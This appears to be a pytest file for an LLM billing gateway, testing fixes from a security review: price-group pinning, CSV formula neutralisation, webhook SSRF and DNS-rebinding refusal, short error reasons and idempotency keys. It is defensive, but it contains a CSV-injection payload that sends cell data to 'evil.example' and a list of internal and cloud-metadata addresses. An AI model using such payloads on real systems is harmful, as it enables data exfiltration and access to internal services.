"""The security review's findings, each closed (issue 15), on SQLite and PostgreSQL:
customers cannot choose a price group; CSV exports cannot carry a formula; webhook targets are
judged when saved and at connect time, IPv6 forms by the IPv4 address they embed; the attempt
log shows a short reason; an Idempotency-Key replays only the very same request (query string
included)."""

from __future__ import annotations

import asyncio
import csv
import io
import ipaddress
import json
from collections.abc import Iterator
from typing import Any

import pytest

from fakes import LLMScript, Tollway, error_of
from tollway import cli, clock
from tollway.app import create_app
from tollway.billing import logins
from tollway.notify import targets
from tollway.notify.deliverer import Deliverer, Policy
from tollway.store import accounts as account_store
from tollway.store.tables import api_keys
from webclient import TestClient, login, post_form

ADMIN_TOKEN = "test-admin-token"
ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
PASSWORD = "review pass 1"
HELLO = [{"role": "user", "content": "hi"}]
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"click")'


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


@pytest.fixture
def console(tw: Tollway) -> Iterator[TestClient]:
    """The console (same database as the served gateway) in a test client."""
    with TestClient(create_app(database_url=tw.db.url, admin_token=ADMIN_TOKEN)) as client:
        yield client


def customer_with_login(tw: Tollway, name: str) -> tuple[int, str]:
    account = tw.account(name)
    with tw.db.write() as conn:
        logins.set_password_hash(conn, account, logins.hash_password(PASSWORD))
        login_name = account_store.get_account(conn, account).name
    return account, login_name


# ----------------------------------------------------------------------------- price groups


def test_a_customer_cannot_pin_a_key_to_a_group(tw: Tollway, console: TestClient) -> None:
    account, name = customer_with_login(tw, "pinner")
    assert login(console, name, PASSWORD).status_code == 303
    page = console.get("/console/keys").text
    assert 'name="group"' not in page  # the form no longer offers a group
    refused = post_form(console, "/console/keys", {"name": "cheap", "group": "vip"})
    assert refused.status_code == 400
    assert "only the operator can pin a key" in refused.text
    with tw.db.read() as conn:
        assert account_store.list_keys(conn, account) == []  # nothing was made
    made = post_form(console, "/console/keys", {"name": "plain"})
    assert made.status_code == 201
    with tw.db.read() as conn:
        [key] = account_store.list_keys(conn, account)
    assert (key.group, key.account_group) == (None, "default")


def test_only_an_operator_pin_is_charged(tw: Tollway, capsys: pytest.CaptureFixture[str]
                                         ) -> None:
    """An operator pin (admin API, CLI) is charged at its group; a customer pin made through
    the old console form (marked ``customer`` by migration 0010) at the account's group."""
    account = tw.account("pins")
    http = tw.http()
    made = http.post(f"/admin/v1/accounts/{account}/keys", headers=ADMIN,
                     json={"name": "by-operator", "group": "vip"})
    assert made.status_code == 201 and made.json()["effective_group"] == "vip"
    operator_key = made.json()["key"]
    legacy_key = tw.key(account, name="by-customer", group="vip")
    legacy_id = tw.key_record(legacy_key).id
    with tw.db.write() as conn:  # as migration 0010 marks a pin it cannot vouch for
        conn.execute(api_keys.update().where(api_keys.c.id == legacy_id)
                     .values(group_pinned_by="customer"))
    assert tw.key_record(legacy_key).group is None

    tw.fake.llm = LLMScript(prompt_tokens=1001, cached_tokens=1, completion_tokens=500)
    tw.client(operator_key).chat.completions.create(model="gpt-test", messages=HELLO)
    tw.client(legacy_key).chat.completions.create(model="gpt-test", messages=HELLO)
    by_operator, by_customer = tw.records()
    # (1000 × 0.15 + 1 × 0.075 + 500 × 0.60) / 1e6 USD = 450_075 nano; vip on gpt-test: 0.7
    # → 315_052.5 → 315_053. The customer's pin is ignored: default, 1 → 450_075.
    assert (by_operator["group_name"], by_operator["ratio"], by_operator["cost_nano"]) == (
        "vip", "0.7", 315_053)
    assert (by_customer["group_name"], by_customer["ratio"], by_customer["cost_nano"]) == (
        "default", "1", 450_075)

    # the operator re-pins it (CLI), then unpins it (admin API)
    assert cli.main(["--database-url", tw.db.url, "--json", "keys", "update",
                     str(legacy_id), "--group", "vip"]) == 0
    assert json.loads(capsys.readouterr().out)["effective_group"] == "vip"
    tw.client(legacy_key).chat.completions.create(model="gpt-test", messages=HELLO)
    assert tw.records()[-1]["cost_nano"] == 315_053
    unpinned = http.patch(f"/admin/v1/keys/{legacy_id}", headers=ADMIN, json={"group": None})
    assert unpinned.status_code == 200 and unpinned.json()["effective_group"] == "default"
    assert http.patch(f"/admin/v1/keys/{legacy_id}", headers=ADMIN,
                      json={"group": "nope"}).status_code == 400  # unknown group
    assert tw.verify() == []


# ----------------------------------------------------------------------------- CSV


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_exports_neutralise_formulas(tw: Tollway, console: TestClient) -> None:
    account, name = customer_with_login(tw, "csv")
    key = tw.key(account, name=FORMULA)
    tw.fake.llm = LLMScript(prompt_tokens=10, completion_tokens=5)
    tw.client(key).chat.completions.create(model="gpt-test", messages=HELLO)
    http = tw.http()
    exports = {
        "customer API": http.get("/v1/billing/usage/export", headers=bearer(key),
                                 params={"format": "csv"}).text,
        "operator API": http.get("/admin/v1/usage/export", headers=ADMIN,
                                 params={"format": "csv", "account": account}).text,
    }
    assert login(console, name, PASSWORD).status_code == 303
    exports["console"] = console.get("/console/usage/export", params={"format": "csv"}).text
    for where, text in exports.items():
        rows = [r for r in _cells(text) if r["type"] == "consume" and r["key_name"]]
        assert [r["key_name"] for r in rows] == ["'" + FORMULA], where
        assert all(not v.startswith(targets_formula_starts()) for r in _cells(text)
                   for v in r.values() if not _is_number(v)), where

    # statements: an adjustment is a plain negative number and stays one
    ledger_note = tw.http().post(f"/admin/v1/accounts/{account}/adjustments", headers=ADMIN,
                                 json={"amount_usd": "-0.5", "note": "@SUM(1+1)"})
    assert ledger_note.status_code in (200, 201), ledger_note.text
    month = ledger_month()
    statement = http.get("/v1/billing/statement", headers=bearer(key),
                         params={"month": month, "format": "csv"}).text
    lines = {r["line"]: r for r in _cells(statement)}
    assert lines["adjustments"]["amount_usd"] == "-0.500000000"
    console_statement = console.get("/console/statements",
                                    params={"month": month, "format": "csv"}).text
    assert console_statement == statement


def targets_formula_starts() -> tuple[str, ...]:
    from tollway.billing.csv_cells import FORMULA_STARTS
    return FORMULA_STARTS


def _is_number(value: str) -> bool:
    try:
        float(value)  # test-side check only: is the cell a plain number?
    except ValueError:
        return False
    return True


def ledger_month() -> str:
    from datetime import UTC, datetime
    return datetime.fromtimestamp(clock.now_ms() / 1000, UTC).strftime("%Y-%m")


def test_the_csv_rule_cell_by_cell() -> None:
    from tollway.billing.csv_cells import cell
    for dangerous in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "-", "=", "-1e3"):
        assert cell(dangerous) == "'" + dangerous
    for plain in ("name", "1.5", "-1.500000000", "0", "-3", "", " =x", 7, None):
        assert cell(plain) == plain


# ----------------------------------------------------------------------------- webhooks


REFUSED_FORMS = ["127.0.0.1", "10.1.2.3", "169.254.169.254", "0.0.0.0", "100.64.0.1",
                 "::1", "::", "fe80::1", "fc00::1", "::127.0.0.1", "::ffff:127.0.0.1",
                 "::ffff:10.0.0.1", "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe", "2002:7f00:1::",
                 "2002:a00:1::", "64:ff9b:1::1", "ff02::1", "224.0.0.1"]
PUBLIC_FORMS = ["93.184.216.34", "2606:2800:220:1:248:1893:25c8:1946", "::ffff:93.184.216.34",
                "64:ff9b::5db8:d822", "2002:5db8:d822::"]


def test_addresses_are_judged_by_the_ipv4_address_they_embed() -> None:
    for text in REFUSED_FORMS:
        assert not targets.is_public(ipaddress.ip_address(text)), text
    for text in PUBLIC_FORMS:
        assert targets.is_public(ipaddress.ip_address(text)), text


def _url(address: str) -> str:
    host = f"[{address}]" if ":" in address else address
    return f"http://{host}:8080/hook"


def test_webhook_targets_are_refused_when_saved(tw: Tollway, console: TestClient) -> None:
    account, name = customer_with_login(tw, "hooks")
    key = tw.key(account)
    http = tw.http()
    path = "/v1/billing/notifications/settings"
    for address in REFUSED_FORMS:
        r = http.put(path, headers=bearer(key), json={"webhook_url": _url(address)})
        assert r.status_code == 400, address
        assert error_of(r)["code"] == "invalid_request"
        assert "refused" in error_of(r)["message"]
    # a name that resolves to loopback is refused too (the lookup happens when saving)
    r = http.put(path, headers=bearer(key), json={"webhook_url": "http://localhost:9/x"})
    assert r.status_code == 400
    # the console's form and the operator's CLI refuse the same
    assert login(console, name, PASSWORD).status_code == 303
    page = post_form(console, "/console/notifications",
                     {"webhook_url": "http://[::ffff:127.0.0.1]/x"})
    assert page.status_code == 400 and "refused" in page.text
    assert cli.main(["--database-url", tw.db.url, "notify", "settings", str(account),
                     "--url", "http://[64:ff9b::7f00:1]/x"]) == 1
    assert http.get(path, headers=bearer(key)).json()["webhook_url"] is None
    ok = http.put(path, headers=bearer(key), json={"webhook_url": _url(PUBLIC_FORMS[0])})
    assert ok.status_code == 200


def test_the_deliverer_refuses_at_connect_time(tw: Tollway) -> None:
    """A saved name that now resolves to a private address (DNS rebinding): the resolver of
    the deliverer's connector refuses it, and the attempt log shows a short reason."""
    account, literal = tw.account("rebind"), tw.account("literal")
    with tw.db.write() as conn:
        from tollway.billing import credits
        from tollway.billing import notifications as notify
        # saved through the store (as if it had resolved to a public address then)
        notify.update(conn, account, {"webhook_url": "http://localhost:9/hook"},
                      at_ms=clock.now_ms())
        credits.topup(conn, account, 10**9, idempotency_key=f"rebind-{account}",
                      at_ms=clock.now_ms())
        notify.update(conn, literal,
                      {"webhook_url": "http://[::ffff:127.0.0.1]:9/hook"}, at_ms=clock.now_ms())

    async def run() -> int:
        d = Deliverer(lambda fn: asyncio.to_thread(tw.db.run_write, fn),
                      Policy(retry_base_ms=0, max_attempts=1, timeout_s=5))
        try:
            return await d.drain()
        finally:
            await d.close()
    assert asyncio.run(run()) >= 1
    shown = tw.http().get(f"/admin/v1/accounts/{account}/notifications", headers=ADMIN).json()
    [attempt] = shown["data"][0]["deliveries"][0]["attempt_log"]
    assert attempt["error"] == "the webhook address is not a public address"


def test_the_public_resolver_refuses_private_answers() -> None:
    async def run() -> Any:
        resolver = targets.PublicResolver()
        try:
            with pytest.raises(targets.TargetRefused):
                await resolver.resolve("localhost", 80)
        finally:
            await resolver.close()
    asyncio.run(run())


def test_attempt_logs_show_a_short_reason(tw: Tollway) -> None:
    """A connection refused by a closed port: the customer reads a short reason, never the
    exception's text (no address, errno or library name)."""
    from fakes import closed_port
    from tollway.billing import credits
    from tollway.billing import notifications as notify
    account = tw.account("short")
    key = tw.key(account)
    with tw.db.write() as conn:
        notify.update(conn, account, {"webhook_url": f"http://127.0.0.1:{closed_port()}/x"},
                      at_ms=clock.now_ms())
        credits.topup(conn, account, 10**9, idempotency_key=f"short-{account}",
                      at_ms=clock.now_ms())

    async def run() -> int:
        d = Deliverer(lambda fn: asyncio.to_thread(tw.db.run_write, fn),
                      Policy(retry_base_ms=0, max_attempts=1, timeout_s=5,
                             allow_private_targets=True))
        try:
            return await d.drain()
        finally:
            await d.close()
    asyncio.run(run())
    shown = tw.http().get("/v1/billing/notifications", headers=bearer(key)).json()
    [attempt] = shown["data"][0]["deliveries"][0]["attempt_log"]
    assert attempt["error"] == "the connection was refused or failed"


# ----------------------------------------------------------------------------- idempotency


def test_an_idempotency_key_covers_the_query_string(tw: Tollway) -> None:
    account = tw.account("idem")
    key = tw.key(account)
    http = tw.http()
    headers = {**bearer(key), "Idempotency-Key": "search-1"}
    first = http.get("/apis/v1/search/web", params={"q": "cats"}, headers=headers)
    assert first.status_code == 200
    other = http.get("/apis/v1/search/web", params={"q": "dogs"}, headers=headers)
    assert other.status_code == 409 and error_of(other)["code"] == "idempotency_conflict"
    again = http.get("/apis/v1/search/web", params={"q": "cats"}, headers=headers)
    assert again.status_code == 200 and again.content == first.content
    assert len(tw.fake.data_requests()) == 1  # one forward, one charge
    [record] = [r for r in tw.records() if r["type"] == "consume"]
    assert record["cost_nano"] == 1_500_000  # $0.0015 per call, default group
    assert tw.available(account) == 10 * 10**9 - 1_500_000
